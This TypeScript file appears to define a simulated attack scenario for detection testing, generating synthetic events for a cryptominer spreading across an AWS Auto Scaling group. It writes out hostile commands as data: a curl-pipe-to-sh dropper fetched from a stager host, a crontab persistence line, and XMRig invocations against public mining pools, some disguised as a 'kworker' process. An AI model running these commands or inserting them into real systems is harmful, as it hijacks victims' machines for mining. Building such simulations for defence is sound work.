import { defineScenario } from "./define.ts";

/**
 * A vulnerable web application in an Auto Scaling group is exploited on several instances: a
 * dropper is fetched and run, persists through cron, and a miner connects to a mining pool from
 * every compromised instance, round the clock.
 */
export default defineScenario({
  id: "ec2-instance-group-cryptomining",
  title: "Cryptominer spread across an Auto Scaling group",
  kind: "attack",
  description:
    "An exploit of the web tier's application runs a dropper (curl | sh) on several instances of one Auto Scaling group, adds a cron entry, then starts a miner (renamed in some instances) that resolves a mining-pool domain and keeps long-lived connections to it on a Stratum port.",
  references: [
    "https://sysdig.com/blog/cloud-cryptojacking-8ball/ (Sysdig, 2023: cryptojacking of exposed cloud workloads)",
    "https://www.aquasec.com/blog/kinsing-malware-exploits-novel-openfire-vulnerability/ (Aqua Nautilus: Kinsing campaigns dropping XMRig)",
    "https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_finding-types-ec2.html#cryptocurrency-ec2-bitcointoolbdns (GuardDuty CryptoCurrency:EC2/BitcoinTool.B!DNS)",
  ],
  expectedSequenceType: "AttackSequence:EC2/CompromisedInstanceGroup",
  maxDurationHours: 20,
  stages: [
    { id: "execution", tactic: "TA0002", technique: "T1059.004", description: "the exploited application spawns a shell that downloads and runs a dropper" },
    { id: "persistence", tactic: "TA0003", technique: "T1053.003", description: "a cron entry re-launches the miner", optional: true },
    { id: "impact", tactic: "TA0040", technique: "T1496", description: "the miner resolves a pool and mines over Stratum on every compromised instance" },
  ],
  run(ctx) {
    const { rng } = ctx;
    const groups = new Map<string, ReturnType<typeof ctx.instances>>();
    for (const i of ctx.instances({ inAutoScalingGroup: true })) groups.set(`${i.accountId}/${i.autoScalingGroup}`, [...(groups.get(`${i.accountId}/${i.autoScalingGroup}`) ?? []), i]);
    const candidates = [...groups.values()].filter((g) => g.length >= 2);
    if (candidates.length === 0) throw new Error("ec2-instance-group-cryptomining: no Auto Scaling group with two instances; try more --accounts");
    const group = rng.pick(candidates);
    const victims = rng.sample(group, rng.int(2, group.length));
    const pool = rng.pick(["pool.supportxmr.com", "xmr.pool.minergate.com", "gulf.moneroocean.stream", "xmr-eu1.nanopool.org", "pool.hashvault.pro", "rx.unmineable.com"]);
    const stager = ctx.origin("vps");
    const disguise = rng.chance(0.5);
    const minerCmd = disguise ? "/tmp/.X11-unix/kworker -o stratum+tcp://" : "/tmp/xmrig -o stratum+tcp://";
    // The exploit is replayed across the group within the hour; each foothold then persists and mines.
    const hosts = victims.map((instance) => ({ host: ctx.onHost(instance), at: ctx.start + rng.between(0, 3600) * 1000 }));
    const binary = disguise ? ".X11-unix/kworker" : "xmrig";
    for (const v of victims) ctx.actor(`arn:aws:ec2:${v.region}:${v.accountId}:instance/${v.id}`);
    ctx.stage("execution", () => {
      for (const { host, at } of hosts) {
        host.run(at, `sh -c curl -fsSL http://${stager}/${rng.hex(6)}.sh | sh`, { user: "app", parent: "java" });
        host.connect(at + 400, stager, 80, { bytesOut: 300, bytesIn: rng.int(200_000, 4_000_000), process: "curl" });
        host.write(at + 1500, `/tmp/${binary}`, { process: "curl" });
        host.run(at + 2000, `chmod +x /tmp/${binary}`, { parent: "sh" });
      }
    });
    const settled = Math.max(...hosts.map((h) => h.at)) + 10_000;
    if (rng.chance(0.7)) {
      ctx.stage("persistence", () => {
        for (const { host } of hosts) {
          const at = settled + rng.between(1, 60) * 1000;
          const edit = `crontab -l | { cat; echo "*/10 * * * * ${minerCmd}${pool}:3333"; } | crontab -`;
          host.run(at, edit, { parent: "sh" });
          host.write(at + 200, "/var/spool/cron/app", { activity: "Update", process: edit });
        }
      });
    }
    ctx.stage("impact", () => {
      for (const { host } of hosts) {
        const t = settled + rng.between(90, 300) * 1000;
        const port = rng.pick([3333, 4444, 5555, 14444]);
        const cmd = `${minerCmd}${pool}:${port} --donate-level 1 -B`;
        host.run(t, cmd, { parent: "sh" });
        const { answers } = host.resolve(t + 1000, pool, { process: cmd });
        // The miner keeps a connection open; flow logs show it in every capture window.
        const hours = rng.between(2, 12);
        for (let m = 0; m < hours * 60; m += rng.int(8, 12)) {
          host.connect(t + 2000 + m * 60_000, answers[0]!, port, { bytesOut: rng.int(3_000, 9_000), bytesIn: rng.int(2_000, 6_000), process: cmd, hostname: pool });
        }
      }
    });
  },
});
